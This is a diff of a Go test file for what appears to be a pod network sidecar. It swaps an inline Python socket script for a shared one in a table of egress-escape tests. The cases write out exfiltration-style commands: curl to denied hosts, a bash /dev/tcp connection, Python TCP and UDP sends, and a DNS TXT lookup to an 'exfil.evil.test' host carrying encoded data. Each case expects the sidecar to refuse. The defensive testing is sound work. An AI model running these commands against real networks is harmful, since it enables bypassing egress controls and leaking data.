@@ -237,22 +237,6 @@ func TestPodSidecar(t *testing.T) {
 	p := startPod(t, "pod-a", podPolicy("allowed.test", "rebind.test", "hostaddr.test"))
 	marker := fmt.Sprintf("/pod-%d", time.Now().UnixNano())
 
-	pyConnect := `
-import socket, sys
-kind = {"tcp": socket.SOCK_STREAM, "udp": socket.SOCK_DGRAM}[sys.argv[1]]
-s = socket.socket(socket.AF_INET, kind)
-s.settimeout(5)
-try:
-    if kind == socket.SOCK_STREAM:
-        s.connect((sys.argv[2], int(sys.argv[3])))
-        s.sendall(b"ESCAPED\n")
-        print("closed", s.recv(100))
-    else:
-        s.sendto(b"exfil", (sys.argv[2], int(sys.argv[3])))
-        print("ESCAPED")
-except OSError as e:
-    print("refused", e.errno)
-`
 	for _, c := range []escapeCase{
 		// A denied name does not resolve: the DNS proxy refuses it.
 		{"curl http denied", []string{"sh", "-c", "curl -sS --max-time 20 http://denied.test" + marker + "; echo code=$?"}, "code=6"},
@@ -261,9 +245,9 @@ except OSError as e:
 		{"a denied name at an allowed address", []string{"sh", "-c", "curl -sS --max-time 10 --resolve denied.test:443:" + webAddr + " https://denied.test" + marker + " && echo ESCAPED; echo done"}, "done"},
 		{"curl to an address", []string{"sh", "-c", "curl -sS --max-time 5 http://" + webAddr + ":" + udpEchoPort + "/ ; echo code=$?"}, "not in allowlist: " + webAddr + "\ncode=0"},
 		{"bash dev tcp", []string{"bash", "-c", "exec 3<>/dev/tcp/" + webAddr + "/" + udpEchoPort + " && echo ESCAPED >&3 && timeout 10 cat <&3; echo closed"}, "closed"},
-		{"python tcp", []string{"python3", "-c", pyConnect, "tcp", webAddr, udpEchoPort}, "closed b''"},
-		{"python udp", []string{"python3", "-c", pyConnect, "udp", webAddr, udpEchoPort}, "refused 1\n"},
-		{"loopback port of the sidecar's health", []string{"python3", "-c", pyConnect, "tcp", "127.0.0.1", podHealthPort}, "refused"},
+		{"python tcp", []string{"python3", "-c", pyConnectScript, "4", "tcp", webAddr, udpEchoPort}, "closed b''"},
+		{"python udp", []string{"python3", "-c", pyConnectScript, "4", "udp", webAddr, udpEchoPort}, "refused 1\n"},
+		{"loopback port of the sidecar's health", []string{"python3", "-c", pyConnectScript, "4", "tcp", "127.0.0.1", podHealthPort}, "refused"},
 		{"dns to the world's resolver", []string{"sh", "-c", "dig +tries=1 +time=5 @" + dnsAddr + " direct.denied.test A"}, "status: REFUSED"},
 		{"dns denied name", []string{"dig", "+tries=1", "+time=5", "@127.0.0.1", "secret-data.denied.test", "A"}, "status: REFUSED"},
 		{"dns txt exfiltration", []string{"dig", "+tries=1", "+time=5", "@127.0.0.1", "c2VjcmV0.exfil.evil.test", "TXT"}, "status: REFUSED"},
